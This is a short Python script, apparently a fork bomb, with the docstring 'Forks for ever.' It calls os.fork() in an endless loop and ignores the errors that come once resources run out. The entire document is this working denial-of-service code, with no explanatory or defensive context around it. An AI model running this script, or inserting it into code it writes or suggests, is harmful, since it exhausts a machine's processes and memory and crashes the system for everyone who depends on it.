"""Forks for ever."""
# its honest part may be lost
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
